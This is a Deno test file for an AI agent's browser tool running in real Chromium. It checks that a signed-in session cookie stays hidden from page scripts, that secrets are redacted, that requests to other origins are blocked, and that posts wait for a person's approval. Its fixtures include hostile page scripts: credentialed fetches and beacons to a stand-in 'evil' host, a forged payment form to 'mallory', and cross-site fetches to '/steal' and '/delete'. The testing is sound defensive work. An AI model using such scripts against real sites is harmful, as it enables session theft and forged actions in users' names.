/**
 * A page's own scripts after a person's session, in real Chromium: they run within the signed-in origin, and the cookie
 * is nowhere that they could look. Else one hostile advertisement would be enough.
 */
import assert from "node:assert/strict";
import { browserBundle } from "../../../browser/_fixture/bundle.ts";
import { NOT_BUILT } from "../../../launch/program/bundles_powers.ts";
import { testBundles } from "../../fake/kernel.ts";
import { HAS_CHROMIUM } from "../../fake/chromium.ts";
import { besiege, type Siege } from "../../fake/siege.ts";
import {
  acting,
  AGENT,
  cookie,
  does,
  html,
  namesKept,
  profiles,
  type Serve,
  SESSION,
  signIn,
  type Sites,
  withSites,
} from "../../fake/signed_in.ts";
import { granting, realTools } from "../../fake/tools.ts";

const SIGNED_IN = `sid=${SESSION}`;

async function inChromium(
  shop: (sites: Sites) => Serve,
  f: (siege: Siege, sites: Sites) => Promise<void>,
  evil?: (sites: Sites) => Serve,
): Promise<void> {
  const serve: { shop?: Serve; evil?: Serve | undefined } = {};
  await withSites({
    shop: (request, url) => serve.shop?.(request, url),
    evil: (request, url) => serve.evil?.(request, url),
  }, async (sites) => {
    [serve.shop, serve.evil] = [shop(sites), evil?.(sites)];
    const base = await realTools();
    const policy = { ...granting([sites.shop, sites.evil]), clearance: {} };
    const browser = {
      ...{ engine: "chromium" as const, program: "/usr/lib/chromium/chromium" },
      profiles: profiles(sites),
    };
    const { children } = await testBundles();
    const bundles = { ...children, ...NOT_BUILT, browser: await browserBundle() };
    await besiege(async (siege) => {
      await signIn(siege, sites);
      await f(siege, sites);
    }, { config: { tools: base, policy, browser, bundles } });
  });
}

const chromiumTest = (name: string, fn: () => Promise<void>): void =>
  Deno.test({ name, fn, ignore: !HAS_CHROMIUM });

chromiumTest(
  "scripts of the page see no cookie, and what they set themselves goes nowhere",
  async () => {
    await inChromium(() => (_, { pathname }) => {
      if (pathname === "/part") {
        return new Response("part", { headers: { "set-cookie": "part=of-the-page; Path=/" } });
      }
      return html(`<p id="a">before</p><script>
      const before = document.cookie;
      document.cookie = "planted=by-script; path=/";
      fetch("/part", { credentials: "include" }).then(() => {
        document.getElementById("a").textContent = "cookies [" + before + "] then [" + document.cookie + "]";
      });
    </script>`);
    }, async (siege, { shop, seen }) => {
      const [page] = await does(siege, `await call("browser_open", { url: "${shop}/" });`);
      assert.match(
        page?.content ?? "",
        /cookies \[\] then \[planted=by-script\]/,
        JSON.stringify(page),
      );
      assert.deepEqual(seen.shop, [`GET / ${SIGNED_IN}`, `GET /part ${SIGNED_IN}`]);
      assert.deepEqual(await namesKept(siege), ["part", "sid"]);
    });
  },
);

chromiumTest(
  "a value that a script puts together on the page is taken out of what the agent sees",
  async () => {
    const [first, second] = [SESSION.slice(0, 9), SESSION.slice(9)];
    await inChromium(() => () =>
      html(`<p id="a"></p><script>
      document.getElementById("a").textContent = "it is " + "${first}" + "${second}";
      document.title = "${first}" + "${second}";
    </script>`), async (siege, { shop }) => {
      const told = JSON.stringify(
        await does(siege, `await call("browser_open", { url: "${shop}/" });`),
      );
      assert.match(told, /it is .*redacted: secret/);
      assert.ok(!told.includes(SESSION), told);
    });
  },
);

chromiumTest(
  "nothing of the page reaches another origin: pictures, frames, fetches, a redirect, a form",
  async () => {
    await inChromium(({ evil }) => (_, { pathname }) => {
      if (pathname === "/hop") {
        return new Response(null, { status: 302, headers: { location: `${evil}/hop` } });
      }
      return html(`<p>orders</p>
      <img src="${evil}/picture"><iframe src="${evil}/frame"></iframe>
      <img src="/hop"><link rel="stylesheet" href="${evil}/style">
      <form id="f" method="post" action="/pay"><input name="to" value="mallory"></form>
      <script src="${evil}/script"></script>
      <script>
        fetch("${evil}/fetch", { credentials: "include", mode: "no-cors" }).catch(() => {});
        navigator.sendBeacon("${evil}/beacon", "x");
        fetch("/pay", { method: "POST", body: "to=mallory" }).catch(() => {});
        setTimeout(() => document.getElementById("f").submit(), 10);
      </script>`);
    }, async (siege, { shop, seen }) => {
      const [page] = await does(siege, `await call("browser_open", { url: "${shop}/" });`);
      assert.equal(page?.outcome, "ok", JSON.stringify(page));
      assert.deepEqual(seen.evil, []);
      assert.deepEqual(seen.shop.filter((line) => !line.startsWith("GET ")), []);
      assert.ok(seen.shop.includes(`GET / ${SIGNED_IN}`));
    });
  },
);

chromiumTest(
  "what sends something asks the person, with the profile's name in the question",
  async () => {
    const form =
      `<form method="post" action="/pay"><input name="to" value="bob"><button>Pay</button></form>`;
    await inChromium(
      () => (request) => html(request.method === "POST" ? "<p>paid</p>" : form),
      async (siege, { shop, seen }) => {
        const task = await siege.run({
          program: acting(
            `const page = await call("browser_open", { url: "${shop}/" });
         const ref = /form (e\\d+)/.exec(page.content)[1];
         await call("browser_post", { ref, snapshot: snapshot(page), url: "${shop}/pay", fields: {}, body: "to=bob" });`,
          ),
          ...{ agent: AGENT, onQuestion: "ask" },
        });
        const { body } = await task.first(({ event }) => event === "questionAsked");
        const question = await siege.question(String(body["question"]));
        assert.match(question.summary, /browser_post .*signed in with your browser profile "shop"/);
        assert.deepEqual(seen.shop.filter((line) => line.startsWith("POST")), []);
        await siege.answer(question.id, "allow");
        await task.end;
        assert.deepEqual(seen.shop.filter((line) => line.startsWith("POST")), [
          `POST /pay ${SIGNED_IN}`,
        ]);
      },
    );
  },
);

const STRICT = "strict=strictly-mine";
const ORDERS = "orders of alice";
/** The shop answers everybody that the browser would let read; mallory's page is a link, a script and a form. */
const open = (): Serve => (_, { pathname }) =>
  pathname === "/orders"
    ? new Response(ORDERS, {
      headers: { "access-control-allow-origin": "*", "content-type": "text/plain" },
    })
    : html("<p>a prize</p>");
const lure = ({ shop }: Sites): Serve => () =>
  html(`<a id="l" href="${shop}/prize">a prize</a><p id="p">-</p>
  <form method="post" action="${shop}/pay"><input type="hidden" name="to" value="mallory"><button>go</button></form>
  <script>
    document.getElementById("l").addEventListener("click", async (event) => {
      event.preventDefault();
      const p = document.getElementById("p");
      const ask = (path) => fetch("${shop}" + path, { mode: "no-cors" }).catch(() => {});
      await ask("/prize");
      await ask("/delete?id=1");
      p.textContent = await fetch("${shop}/orders").then((came) => came.text()).catch(() => "nothing");
    });
  </script>`);
const signInStrictly = (siege: Siege, sites: Sites) =>
  signIn(siege, sites, [
    cookie(sites),
    cookie(sites, { name: "strict", sameSite: "strict", value: "strictly-mine" }),
  ]);

chromiumTest(
  "scripts of mallory's page, whose link is clicked, ask nothing in alice's name and read nothing",
  async () => {
    await inChromium(open, async (siege, sites) => {
      const { shop, evil, seen } = sites;
      await signInStrictly(siege, sites);
      const came = await does(
        siege,
        `const page = await call("browser_open", { url: "${evil}/" });
         const link = /link (e\\d+)/.exec(page.content)[1];
         const next = await call("browser_click", { ref: link, snapshot: snapshot(page), url: "${shop}/prize" });
         const ref = /form (e\\d+)/.exec(next.content)[1];
         await call("browser_post", { ref, snapshot: snapshot(next), url: "${shop}/pay", fields: {}, body: "to=mallory" });
         await call("browser_open", { url: "${shop}/within" });`,
      );
      assert.equal(came.length, 4, JSON.stringify(came));
      assert.ok(!JSON.stringify(came).includes(ORDERS), JSON.stringify(came));
      const [sent, within, ...others] = seen.shop;
      assert.deepEqual([sent, others], ["POST /pay -", []], JSON.stringify(seen.shop));
      assert.ok(within?.startsWith("GET /within ") && within.includes(STRICT), within);
    }, lure);
  },
);

chromiumTest(
  "a file of the shop's that is saved while mallory's page is open lends its form nothing",
  async () => {
    await inChromium(open, async (siege, sites) => {
      const { shop, evil, seen } = sites;
      await signInStrictly(siege, sites);
      const came = await does(
        siege,
        `const page = await call("browser_open", { url: "${evil}/" });
         const ref = /form (e\\d+)/.exec(page.content)[1];
         await call("browser_download", { url: "${shop}/orders", path: "scratch/orders.txt" });
         await call("browser_post", { ref, snapshot: snapshot(page), url: "${shop}/pay", fields: {}, body: "to=mallory" });`,
      );
      const [saved, sent] = seen.shop;
      assert.ok(saved?.startsWith(`GET /orders ${SIGNED_IN}`), JSON.stringify([came, seen.shop]));
      assert.equal(sent, "POST /pay -", JSON.stringify([came, seen.shop]));
    }, lure);
  },
);

chromiumTest(
  "mallory's page that stays open when its link is clicked asks nothing, also once the shop answered",
  async () => {
    const staying = ({ shop }: Sites): Serve => () =>
      html(`<a id="l" href="${shop}/prize">a prize</a>
      <script>
        document.getElementById("l").addEventListener("click", async () => {
          const begun = Date.now();
          for (let n = 0; n < 190; n += 1) {
            await fetch("${shop}/steal?" + n, { mode: "no-cors", credentials: "include" })
              .catch(() => {});
            if (Date.now() - begun > 400) window.stop();
            for (const until = Date.now() + 12; Date.now() < until;);
          }
        });
      </script>`);
    await inChromium(
      () => async (_, { pathname }) => {
        // TIMER: the site answers after the lure has stopped the page's way to it; nothing is measured.
        if (pathname === "/prize") await new Promise((resolve) => setTimeout(resolve, 1_200));
        return html(pathname === "/hello" ? `<img src="/part">` : "<p>a prize</p>");
      },
      async (siege, { shop, evil, seen }) => {
        const came = await does(
          siege,
          `const page = await call("browser_open", { url: "${evil}/" });
           const link = /link (e\\d+)/.exec(page.content)[1];
           await call("browser_click", { ref: link, snapshot: snapshot(page), url: "${shop}/prize" });
           await call("browser_open", { url: "${evil}/" });
           await call("browser_open", { url: "${shop}/hello" });`,
        );
        const [first, ...others] = seen.shop.map((line) => line.split(" ")[1]);
        assert.equal(first, "/prize", JSON.stringify(came));
        // A page that did open has its parts.
        assert.deepEqual(others, ["/hello", "/part"]);
      },
      staying,
    );
  },
);
